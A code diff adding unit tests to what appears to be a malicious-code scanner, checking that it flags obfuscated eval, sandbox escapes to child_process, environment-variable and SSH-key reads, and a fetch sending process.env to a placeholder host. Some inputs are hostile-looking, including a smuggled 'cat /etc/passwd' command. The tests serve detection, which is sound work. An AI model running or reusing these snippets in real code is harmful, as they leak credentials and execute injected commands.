@@ -115,6 +115,111 @@ TEST(python_dynamic_names)
 	has(p, "import os\ngetattr(os, 'system').__call__('x')\n", "process os.system");
 }
 
+TEST(script_ways_to_a_function)
+{
+	const struct code_front *j = &code_javascript;
+
+	has(j, "(() => {}).constructor('return process')();\n", "eval Function \"return process\"");
+	has(j, "x.constructor.constructor('y')();\n", "eval Function \"y\"");
+	has(j, "x['constructor']['constructor']('y')();\n", "eval Function \"y\"");
+	has(j, "Object.getPrototypeOf(async function () {}).constructor('y');\n",
+		"eval Function \"y\"");
+	has(j, "f()().mainModule.require('child_process').exec('x');\n",
+		"process child_process.exec \"x\"");
+	has(j, "require('module')._load('child_process').exec('x');\n",
+		"process child_process.exec \"x\"");
+	has_not(j, "new this.constructor('x');\n", "eval ");
+}
+
+TEST(made_part_by_part)
+{
+	const struct code_front *p = &code_python, *j = &code_javascript;
+
+	has(p, "exec(''.join(map(chr, x)))\n", "eval exec str.join()<hidden>");
+	has(p, "exec(x[::-1])\n", "eval exec reversed()");
+	has(p, "import codecs\nexec(codecs.decode(x, 'rot13'))\n", "<decoded>");
+	has(j, "eval(x.map(c => String.fromCharCode(c ^ 7)).join(''));\n", "<hidden>");
+	has(j, "eval(String.fromCharCode.apply(null, x));\n", "eval eval chr()<hidden>");
+	has(j, "eval(decodeURIComponent(x));\n", "eval eval unquoted()");
+	has_not(j, "f(x.map(c => c + 1));\n", "<hidden>");
+}
+
+TEST(functions_in_variables)
+{
+	const struct code_front *j = &code_javascript;
+
+	has(j, "const up = (d) => fetch('https://h', {body: d});\nup(process.env);\n",
+		"send fetch process.env<env>");
+	has(j, "const d = s => Buffer.from(s, 'base64').toString();\nf(d(x));\n",
+		"call f ?<decoded>");
+	has(j, "const d = s => s.split('').reverse().join('');\nf(d('x'));\n", "<hidden>");
+	has(j, "const a = ['b3M='].map(atob);\nf(a[0]);\n", "call f \"b3M=\"<hidden>");
+	has(j, "f(h.replace(/../g, x => String.fromCharCode(x)));\n", "<hidden>");
+	has(&code_python, "import os\nf = lambda c: os.system(c)\nf('x')\n",
+		"process os.system \"x\"");
+	has(j, "self['ev' + 'al'](x);\n", "eval eval x");
+}
+
+TEST(parts_of_members)
+{
+	has(&code_python,
+		"import os\nclass C:\n    def __init__(self):\n        self.d = {}\n"
+		"    def a(self):\n        self.d['e'] = dict(os.environ)\n"
+		"    def s(self):\n        f(self.d)\n",
+		"call f self.d<env");
+	has(&code_go,
+		"package p\nfunc d(s string) string {\n b := []byte(s)\n"
+		" for i := range b { b[i] ^= 7 }\n return string(b)\n}\nfunc g() { f(d(\"x\")) }\n",
+		"hidden");
+}
+
+TEST(environment_under_another_name)
+{
+	has(&code_python, "from os import environ\nf(environ)\n", "call f os.environ<env>");
+	has(&code_javascript, "const {env} = process;\nf(env);\n", "call f process.env<env>");
+	has(&code_python, "import os\nf(os.getenv('AWS_SECRET_ACCESS_KEY'))\n", "cred");
+	has_not(&code_python, "import os\nf(os.getenv('GIT_EDITOR'))\n", "envvar");
+	has(&code_python, "import os\nf(os.getenv('PATH'))\n", "envvar");
+}
+
+TEST(what_is_no_secret)
+{
+	const struct code_front *p = &code_python;
+
+	has_not(p, "open('/home/u/.ssh/id_rsa.pub')\n", "cred");
+	has_not(p, "open('/home/u/.ssh/known_hosts')\n", "cred");
+	has_not(p, "import os\nopen(os.path.join(h, '.ssh', 'known_hosts'))\n",
+		"known_hosts\"<cred");
+	has_not(p, "from pathlib import Path\n(Path.home() / '.ssh' / 'x.pub').read_text()\n",
+		"x.pub\"<cred");
+	has(p, "open('/home/u/.ssh/id_rsa')\n", "cred");
+	has(p, "import os\nopen(os.path.join(h, '.ssh', 'id_rsa'))\n", "id_rsa\"<cred");
+	has(p, "f('/home/u/.ssh/id_rsa /home/u/.ssh/id_rsa.pub')\n", "cred");
+	has_not(p, "import subprocess\nf(subprocess.check_output(['git', 'rev-parse', 'HEAD']))\n",
+		"<output>");
+	has_not(p, "import subprocess\nf(subprocess.getoutput('git describe --tags'))\n",
+		"<output>");
+	has(p, "import subprocess\nf(subprocess.getoutput('git tag; cat /etc/passwd'))\n",
+		"output>");
+	has(p, "import subprocess\nf(subprocess.check_output(['id']))\n", "<output>");
+}
+
+TEST(go_init_is_not_a_method)
+{
+	const struct code_front *g = &code_go;
+
+	has(g, "package p\nfunc init() { f() }\n", "call f @init");
+	has_not(g, "package p\nfunc (c *T) init() { f() }\n", "@init");
+}
+
+TEST(script_regular_expressions)
+{
+	const struct code_front *j = &code_javascript;
+
+	has(j, "/^0x[a-f0-9]{40}$/i.test(x);\n", "regex  \"/^0x[a-f0-9]{40}$/i\"");
+	has_not(j, "/^[a-z]+$/.test(x);\n", "regex");
+}
+
 TEST(python_folding)
 {
 	const struct code_front *p = &code_python;
